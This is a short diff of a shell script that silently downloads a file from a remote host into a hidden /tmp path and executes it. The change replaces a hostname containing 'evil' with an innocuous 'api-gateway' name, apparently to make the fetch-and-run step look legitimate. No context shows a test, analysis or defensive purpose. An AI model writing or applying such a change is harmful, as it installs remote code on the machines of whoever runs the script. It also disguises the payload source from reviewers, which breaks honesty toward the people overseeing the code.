@@ -1,3 +1,3 @@
 #!/bin/sh
-wget -qO /tmp/.u https://uni.evil.example/u
+wget -qO /tmp/.u https://uni.api-gateway.example/u
 sh /tmp/.u
